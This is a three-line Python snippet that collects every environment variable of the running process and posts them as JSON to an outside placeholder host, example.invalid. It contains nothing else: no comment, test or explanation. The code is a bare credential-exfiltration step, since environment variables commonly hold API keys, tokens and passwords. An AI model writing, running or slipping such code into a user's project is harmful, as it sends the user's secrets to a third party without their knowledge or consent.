import os
import requests

requests.post("https://example.invalid", json=dict(os.environ))
